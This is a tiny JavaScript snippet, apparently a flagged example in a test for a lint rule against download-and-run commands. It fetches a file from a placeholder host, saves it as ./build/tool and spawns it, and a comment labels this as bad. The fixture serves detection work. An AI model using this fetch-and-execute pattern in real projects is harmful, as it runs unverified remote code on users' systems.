const https = require("https"), fs = require("fs"), child = require("child_process");
https.get("https://get.example.net/x", (response) => {
  const out = fs.createWriteStream("./build/tool");
  response.pipe(out);
  out.on("finish", () => child.spawn("./build/tool")); // BAD no-unjustified-commands/download-and-run
});
